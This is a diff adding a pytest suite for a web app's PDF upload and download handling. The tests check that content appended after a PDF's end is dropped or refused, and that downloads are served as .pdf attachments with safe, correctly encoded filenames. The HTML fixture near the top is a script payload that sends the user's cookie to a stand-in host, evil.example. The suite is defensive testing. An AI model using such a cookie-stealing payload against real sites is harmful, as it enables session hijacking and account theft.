@@ -1,0 +1,205 @@
+"""Uploaded PDFs: only the PDF is kept, and downloads are attachments named .pdf."""
+
+from __future__ import annotations
+
+import io
+import re
+from pathlib import Path
+from urllib.parse import unquote
+
+import pytest
+from pypdf import PdfReader, PdfWriter
+
+from incubator.applications.models import ApplicationDocument, RoundDocument
+from incubator.auth.enums import Role
+from incubator.outcomes.models import GraduationOutcome
+from tests.helpers import post_form
+
+HTML = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>\n"
+
+
+def _pdf() -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _updated(pdf: bytes) -> bytes:
+    """The PDF with an incremental update appended (a new title): a second revision, a second %%EOF."""
+    writer = PdfWriter(io.BytesIO(pdf), incremental=True)
+    writer.add_metadata({"/Title": "Bản sửa đổi"})
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _files(app, kind: str) -> set[str]:
+    folder = Path(app.instance_path) / "uploads" / kind
+    return {p.name for p in folder.iterdir()} if folder.is_dir() else set()
+
+
+def _on_disk(app, kind: str, name: str) -> Path:
+    return Path(app.instance_path) / "uploads" / kind / name
+
+
+# ---- Two doors in: a founder's application document, staff's evidence of an outcome ----------------------
+
+@pytest.fixture
+def founder(make, login_as):
+    """A founder with a draft application to a round that asks for one document."""
+    client, user = login_as(Role.FOUNDER)
+    company = make.company(name="Công ty TNHH Ươm Mầm Số")
+    make.member(company=company, user=user)
+    application = make.application(company=company, created_by=user)
+    document = make._save(RoundDocument(round=application.round, name_vi="Kế hoạch kinh doanh",
+                                        name_en="Business plan"))
+    return {"client": client, "application": application, "document": document}
+
+
+@pytest.fixture
+def staff(login_as):
+    return login_as(Role.STAFF)[0]
+
+
+def _upload_document(s, content: bytes, name: str = "ke-hoach.pdf"):
+    application_id = s["application"].id
+    url = f"/applications/{application_id}/documents/{s['document'].id}"
+    return post_form(s["client"], url, {"file": (io.BytesIO(content), name)},
+                     token_from=f"/applications/{application_id}/edit", content_type="multipart/form-data")
+
+
+def _slot(db, s) -> ApplicationDocument | None:
+    db.session.expire_all()
+    return db.session.query(ApplicationDocument).filter_by(application_id=s["application"].id).one_or_none()
+
+
+def _download_document(s):
+    return s["client"].get(f"/applications/{s['application'].id}/documents/{s['document'].id}")
+
+
+def _new_outcome(staff, company, content: bytes, name: str = "hop-dong.pdf"):
+    url = f"/register/{company.id}/outcomes/new"
+    return post_form(staff, url, {"decision": "graduated", "decided_on": "2025-06-30", "serves_economy": "y",
+                                  "evidence_pdf": (io.BytesIO(content), name)},
+                     token_from=url, content_type="multipart/form-data")
+
+
+def _edit_outcome(staff, outcome, **data):
+    url = f"/register/outcomes/{outcome.id}/edit"
+    return post_form(staff, url, {"decision": "graduated", "decided_on": "2025-06-30", "serves_economy": "y",
+                                  "version": outcome.version_id, **data},
+                     token_from=url, content_type="multipart/form-data")
+
+
+def _outcome(db) -> GraduationOutcome:
+    db.session.expire_all()
+    return db.session.query(GraduationOutcome).one()
+
+
+def _upload_through(door, s, content: bytes, name: str):
+    """Upload through one of the two doors; return (kind, stored name, the download response)."""
+    db, make, client = s["db"], s["make"], s["client"]
+    if door == "application document":
+        assert _upload_document(s["founder"], content, name).status_code == 302
+        slot = _slot(db, s["founder"])
+        return "applications", slot.stored_name, _download_document(s["founder"])
+    response = _new_outcome(client, make.company(), content, name)
+    assert response.status_code == 302, response.get_data(as_text=True)[:500]
+    outcome = _outcome(db)
+    return "evidence", outcome.evidence_file, client.get(f"/register/outcomes/{outcome.id}/evidence")
+
+
+DOORS = ["application document", "outcome evidence"]
+
+
+@pytest.fixture
+def doors(founder, staff, make, db):
+    return {"founder": founder, "client": staff, "make": make, "db": db}
+
+
+# ---- Only the PDF is stored -------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("door", DOORS)
+def test_html_appended_after_the_eof_of_a_pdf_is_neither_stored_nor_served(door, doors, app):
+    pdf = _pdf()
+    kind, stored, download = _upload_through(door, doors, pdf + HTML, "bao-cao.pdf")
+    assert _on_disk(app, kind, stored).read_bytes() == pdf
+    assert download.status_code == 200 and download.data == pdf
+    assert b"<html" not in download.data
+
+
+@pytest.mark.parametrize("door", DOORS)
+def test_html_carrying_its_own_eof_after_a_pdf_is_refused(door, doors, app):
+    """A fake end (``%%EOF`` with no cross-reference before it) does not make the page part of the PDF."""
+    content = _pdf() + HTML + b"%%EOF\n"
+    if door == "application document":
+        response = _upload_document(doors["founder"], content, "bao-cao.pdf")
+        assert response.status_code == 303
+        assert _slot(doors["db"], doors["founder"]) is None
+        page = doors["founder"]["client"].get(response.headers["Location"]).get_data(as_text=True)
+    else:
+        response = _new_outcome(doors["client"], doors["make"].company(), content, "bao-cao.pdf")
+        assert response.status_code == 400
+        assert doors["db"].session.query(GraduationOutcome).count() == 0
+        page = response.get_data(as_text=True)
+    assert "Không đọc được tệp này dưới dạng tài liệu PDF." in page
+
+
+@pytest.mark.parametrize("door", DOORS)
+def test_a_pdf_with_an_incremental_update_is_accepted_whole(door, doors, app):
+    updated = _updated(_pdf())
+    assert updated.count(b"%%EOF") == 2
+    kind, stored, download = _upload_through(door, doors, updated + b"\r\n\x00\x00  \n", "da-sua.pdf")
+    assert _on_disk(app, kind, stored).read_bytes() == updated  # the padding after the last %%EOF dropped
+    assert download.data == updated
+    assert PdfReader(io.BytesIO(download.data)).metadata.title == "Bản sửa đổi"  # the last revision counts
+
+
+# ---- Downloads are attachments named .pdf -----------------------------------------------------------------
+
+@pytest.mark.parametrize("door", DOORS)
+@pytest.mark.parametrize(("uploaded_as", "saved_as", "ascii_name"), [
+    ("Kế hoạch đợt 1.html", "Kế hoạch đợt 1.html.pdf", "Ke hoach dot 1.html.pdf"),
+    ("Báo cáo tài chính.PDF", "Báo cáo tài chính.PDF", "Bao cao tai chinh.PDF"),
+    # macOS sends names decomposed (NFD): the browser gets the composed form
+    ("Ho\u0302\u0300 so\u031b đa\u0302\u0300u tu\u031b.pdf", "Hồ sơ đầu tư.pdf", "Ho so dau tu.pdf"),
+    ("ke-hoach; ban 2", "ke-hoach; ban 2.pdf", "ke-hoach; ban 2.pdf"),
+])
+def test_every_upload_is_downloaded_as_an_attachment_with_a_pdf_name(door, uploaded_as, saved_as, ascii_name,
+                                                                     doors):
+    if door == "outcome evidence" and not uploaded_as.lower().endswith(".pdf"):
+        # The evidence form takes only names ending in .pdf; older records hold others.
+        _upload_through(door, doors, _pdf(), "tam.pdf")
+        outcome = _outcome(doors["db"])
+        outcome.evidence_filename = uploaded_as
+        doors["db"].session.commit()
+        download = doors["client"].get(f"/register/outcomes/{outcome.id}/evidence")
+    else:
+        download = _upload_through(door, doors, _pdf(), uploaded_as)[2]
+    assert download.status_code == 200
+    assert download.mimetype == "application/pdf"
+    assert download.headers["X-Content-Type-Options"] == "nosniff"
+    disposition = download.headers["Content-Disposition"]
+    assert disposition.startswith("attachment;")
+    utf8 = re.search(r"filename\*=UTF-8''([^;\s]+)", disposition)
+    assert (unquote(utf8.group(1)) if utf8 else None) == (saved_as if not saved_as.isascii() else None)
+    plain = re.search(r'filename=("(?:[^"\\]|\\.)*"|[^;\s]+)', disposition).group(1)
+    plain = plain[1:-1].replace('\\"', '"').replace("\\\\", "\\") if plain.startswith('"') else plain
+    assert plain == (saved_as if saved_as.isascii() else ascii_name)
+    assert plain.lower().endswith(".pdf")
+
+
+def test_a_record_whose_name_has_no_pdf_ending_is_still_downloaded_as_pdf(doors, make, db, app):
+    """Files stored by earlier versions kept any name: the browser is given one ending in .pdf."""
+    _upload_through("outcome evidence", doors, _pdf(), "hop-dong.pdf")
+    outcome = _outcome(db)
+    outcome.evidence_filename = "hop-dong.exe"
+    db.session.commit()
+    download = doors["client"].get(f"/register/outcomes/{outcome.id}/evidence")
+    assert download.headers["Content-Disposition"] == 'attachment; filename=hop-dong.exe.pdf'
+    outcome.evidence_filename = None
+    db.session.commit()
+    download = doors["client"].get(f"/register/outcomes/{outcome.id}/evidence")
+    assert download.headers["Content-Disposition"] == "attachment; filename=evidence.pdf"
